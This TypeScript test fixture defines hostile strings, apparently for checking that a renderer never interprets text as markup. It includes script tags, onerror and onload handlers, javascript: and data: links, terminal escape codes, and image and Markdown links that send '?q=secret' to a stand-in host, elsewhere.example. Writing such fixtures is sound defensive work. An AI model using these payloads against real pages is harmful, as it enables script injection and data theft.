/** Where hostile text would have the browser go. */
export const HOSTILE_HOST = "elsewhere.example";

/**
 * What would run, load or lead elsewhere were it ever taken for markup: HTML, SVG, Markdown and addresses (A40). Each
 * piece of HTML has an attribute by which what is made of it is found. Without quotes: it stays as it is inside JSON.
 */
export const HOSTILE_MARKUP = [
  "<script data-hostile>window.ran=1;alert(1)</script>",
  "<img data-hostile src=x onerror=window.ran=1;alert(1)>",
  `<img data-hostile src=https://${HOSTILE_HOST}/html.png?q=secret>`,
  "<svg data-hostile onload=window.ran=1><script data-hostile>alert(1)</script></svg>",
  `<iframe data-hostile src=https://${HOSTILE_HOST}/frame></iframe>`,
  `<style data-hostile>body { background: url(https://${HOSTILE_HOST}/style.png) }</style>`,
  "<a data-hostile href=javascript:window.ran=1>press</a>",
  "<form data-hostile action=https://elsewhere.example/form><input data-hostile autofocus onfocus=window.ran=1></form>",
  `![picture](https://${HOSTILE_HOST}/markdown.png?q=secret)`,
  "[press](javascript:window.ran=1)",
  "[press](data:text/html,<script>alert(1)</script>)",
].join(" ");

/** With signs to a terminal, which no document may hold. */
export const HOSTILE = `${HOSTILE_MARKUP} \u001b[31mred\u001b]8;;javascript:window.ran=1\u0007press\u001b]8;;\u0007`;
